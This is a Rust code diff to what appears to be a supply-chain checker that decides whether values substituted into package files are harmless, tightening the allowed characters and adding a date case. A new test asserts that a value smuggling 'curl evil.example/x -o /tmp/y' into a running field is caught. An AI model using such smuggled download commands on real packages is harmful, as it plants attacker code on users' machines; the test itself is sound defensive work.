@@ -98,9 +98,11 @@ fn around_formats(bytes: &[u8]) -> Vec<&[u8]> {
 
 /// Ids, names, dates: nothing that ends a text or begins a command.
 fn is_harmless(put_in: &[u8], runs: bool) -> bool {
-    let signs: &[u8] = if runs { b" .,:+-_/" } else { b" .,:+-_/()<>@~" };
-    put_in.len() <= MOST_PUT_IN
-        && put_in.iter().all(|byte| byte.is_ascii_alphanumeric() || signs.contains(byte))
+    let signs: &[u8] = if runs { b".,:+-_/" } else { b" .,:+-_/()<>@~" };
+    let is_word = put_in.iter().all(|byte| byte.is_ascii_alphanumeric() || signs.contains(byte));
+    // Where it runs, what stands behind a blank may be a command. A date is none.
+    let is_date = put_in.iter().all(|byte| byte.is_ascii_digit() || b" :+-".contains(byte));
+    put_in.len() <= MOST_PUT_IN && (is_word || is_date)
 }
 
 fn is_egg_info(old: &[u8], new: &[u8]) -> bool {
@@ -109,7 +111,7 @@ fn is_egg_info(old: &[u8], new: &[u8]) -> bool {
 }
 
 /// What a manifest of npm runs or asks for that the other one does not.
-fn of_manifest(old: &[u8], new: &[u8]) -> Option<String> {
+pub(crate) fn of_manifest(old: &[u8], new: &[u8]) -> Option<String> {
     let read = |bytes| serde_json::from_slice::<Value>(bytes).unwrap_or(Value::Null);
     let (old, new) = (read(old), read(new));
     if new.is_null() {
@@ -146,6 +148,7 @@ mod tests {
             assert!(!is_substituted(old, new, false), "{}", String::from_utf8_lossy(new));
         }
         assert!(!is_substituted(b"a", b"b", false));
+        assert!(!is_substituted(b"V=$Format:%h$", b"V=x curl evil.example/x -o /tmp/y", true));
     }
 
     #[test]
